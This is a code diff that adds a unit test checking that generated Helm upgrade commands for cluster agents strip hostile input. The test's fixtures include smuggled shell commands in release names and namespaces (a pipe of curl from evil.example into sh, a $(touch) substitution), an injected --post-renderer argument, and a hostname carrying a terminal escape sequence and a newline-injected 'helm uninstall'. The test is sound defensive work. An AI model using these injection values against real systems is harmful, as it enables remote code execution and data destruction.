@@ -30,6 +30,20 @@ describe('the commands that upgrade the agents of a cluster', () => {
     ]);
   });
 
+  it('contain no text that a hostile agent has announced', () => {
+    const agents = [
+      { name: 'a', ...outdated, release: { name: 'x; curl evil.example | sh #', namespace: 'n' } },
+      { name: 'b', ...outdated, release: { name: 'x', namespace: '$(touch /tmp/owned)' } },
+      { name: 'c', ...outdated, release: { name: '--post-renderer=evil', namespace: 'n' } },
+      { name: 'd', ...outdated, hostname: 'h\u001b]52;c;ZXZpbA==\u0007\nhelm uninstall x' },
+    ];
+    const text = upgradeLines({ status: { agents } }, options).join('\n');
+    expect(text).not.toMatch(/curl|touch|post-renderer|^helm/m);
+    expect(text).not.toContain('\u001b');
+    expect(text).toContain('The agent a has announced an invalid Helm release');
+    expect(text).toContain('The agent d ');
+  });
+
   it('are not needed without an agent, or if all agents are current', () => {
     expect(upgradeLines({}, options)).toEqual(['cluster "edge" has no agent']);
     const agents = [{ name: 'a', version: '0.2.0', release }];
